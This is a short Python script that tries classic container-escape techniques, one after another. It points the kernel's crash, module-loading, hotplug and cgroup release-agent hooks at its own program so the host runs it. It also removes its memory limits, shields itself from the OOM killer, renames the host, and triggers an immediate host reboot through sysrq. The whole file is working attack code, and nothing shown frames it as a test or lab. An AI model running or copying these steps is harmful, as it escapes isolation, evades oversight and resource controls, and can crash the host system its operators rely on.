"""Has the kernel run a program for it: by the classic ways out of a container that may write its settings."""

import glob
import os

from attempts import attempt, write


def release_agent():
    """A program that the kernel runs, on the host, when a control group becomes empty."""
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True):
        return write(path, "/mw/work/main.py")
    raise LookupError("there is no release_agent")


def own_limits():
    for path in glob.glob("/sys/fs/cgroup/**/*memory*max", recursive=True) + glob.glob(
        "/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True
    ):
        return write(path, "max")
    raise LookupError("no control group is to be seen")


def new_group():
    for path in glob.glob("/sys/fs/cgroup/*") or ["/sys/fs/cgroup"]:
        os.mkdir(f"{path}/planted")
    return "a control group of its own"


attempt("a program for crashes", lambda: write("/proc/sys/kernel/core_pattern", "|/mw/work/main.py"))
attempt("a program for modules", lambda: write("/proc/sys/kernel/modprobe", "/mw/work/main.py"))
attempt("a program for hot plugs", lambda: write("/sys/kernel/uevent_helper", "/mw/work/main.py"))
attempt("a program for empty groups", release_agent)
attempt("limits of its own", own_limits)
attempt("a group of its own", new_group)
attempt("the magic key", lambda: write("/proc/sysrq-trigger", "b"))
attempt("a lower price of being killed", lambda: write("/proc/self/oom_score_adj", "-1000"))
attempt("the host's name", lambda: write("/proc/sys/kernel/hostname", "planted"))
